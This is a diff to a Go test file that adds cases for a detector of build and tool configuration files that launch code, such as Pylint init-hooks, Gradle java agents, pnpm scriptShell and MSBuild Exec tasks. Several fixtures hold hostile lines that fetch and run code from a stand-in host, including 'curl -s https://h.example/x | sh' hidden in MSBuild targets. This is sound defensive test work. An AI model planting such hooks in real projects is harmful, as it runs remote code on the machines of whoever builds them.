@@ -1,6 +1,7 @@
 package gates_test
 
 import (
+	"strings"
 	"testing"
 
 	"github.com/gbt-policy/gbt/gates"
@@ -30,6 +31,26 @@ func TestSettingsThatLead(t *testing.T) {
 		{"code of Pylint", "pylint a.py", ".pylintrc", "[MASTER]\ninit-hook='import urllib.request; exec(urllib.request.urlopen(\"https://h.example/x\").read())'\n", true},
 		{"a path of Pylint", "pylint a.py", ".pylintrc", "[MASTER]\ninit-hook='import sys; sys.path.append(\".\")'\n", false},
 		{"an agent", "gradle build", "gradle.properties", "org.gradle.jvmargs=-Xmx2g -javaagent:lib/a.jar\n", true},
+		{"an agent behind a colon", "gradle build", "gradle.properties", "org.gradle.jvmargs:-javaagent:lib/a.jar\n", true},
+		{"an agent behind an escape", "gradle build", "gradle.properties", "org.gradle.jvmargs=\\u002djavaagent:lib/a.jar\n", true},
+		{"another JVM", "gradle build", "gradle.properties", "org.gradle.java.home=./jdk\n", true},
+		{"a file of options", "sbt test", ".jvmopts", "@x.args\n", true},
+		{"a launcher of sbt", "sbt test", ".jvmopts", "-Dsbt.boot.properties=x\n", true},
+		{"memory of sbt", "sbt test", ".jvmopts", "-Xmx2G\n-Dfile.encoding=UTF-8\n", false},
+		{"a key behind a blank", "pnpm test", "pnpm-workspace.yaml", " packages:\n   - packages/*\n scriptShell: ./s.sh\n", true},
+		{"a key behind the start", "pnpm test", "pnpm-workspace.yaml", "--- {scriptShell: ./s.sh}\n", true},
+		{"an SDK of the project", "dotnet build", "global.json", `{"sdk": {"paths": ["./sdk"]}}`, true},
+		{"a shell of a target of make", "make", "Makefile", "all: SHELL = ./s\nall:\n\techo a\n", true},
+		{"a shell of make by define", "make", "Makefile", "define SHELL\n./s\nendef\nall:\n\techo a\n", true},
+		{"a use of make's shell", "make", "Makefile", "# the SHELL\nall:\n\techo $(SHELL) ${SHELL}\n", false},
+		{"a command in another case", "dotnet build", "Directory.Build.targets", proj + "<Exec command='curl -s https://h.example/x | sh'/></Target></Project>", true},
+		{"a command behind a sign", "dotnet build", "Directory.Build.targets", proj + "<Exec Condition='1 > 0' Command='curl -s https://h.example/x | sh'/></Target></Project>", true},
+		{"a command after many", "dotnet build", "Directory.Build.targets", proj + strings.Repeat("<Exec Command='echo a'/>", 40) + "<Exec Command='curl -s https://h.example/x | sh'/></Target></Project>", true},
+		{"a command of two lines", "dotnet build", "Directory.Build.targets", proj + "<Exec Command='echo a&#10;curl -s https://h.example/x | sh'/></Target></Project>", true},
+		{"a compiler of the project", "dotnet build", "Directory.Build.targets", proj + "<Csc ToolExe='x.sh'/></Target></Project>", true},
+		{"a task of a library in another case", "dotnet build", "Directory.Build.targets", "<Project><usingTask TaskName='X' AssemblyFile='x.dll'/></Project>", true},
+		{"wide characters", "dotnet build", "Directory.Build.targets", "\xff\xfe<\x00P\x00", true},
+		{"commands that print", "dotnet build", "Directory.Build.targets", proj + "<Exec Condition=\"'$(OS)' != 'x'\" Command='echo &quot;a&quot;'/></Target></Project>", false},
 		{"a command of the JVM", "gradle build", "gradle.properties", "org.gradle.jvmargs=-XX:OnOutOfMemoryError=x\n", true},
 		{"memory", "gradle build", "gradle.properties", "org.gradle.jvmargs=-Xmx2g -XX:MaxMetaspaceSize=512m -Dfile.encoding=UTF-8 -XX:+UseG1GC\nversion=1.0-SNAPSHOT\n", false},
 		{"an agent of sbt", "sbt compile", ".sbtopts", "-J-javaagent:/tmp/a.jar\n", true},
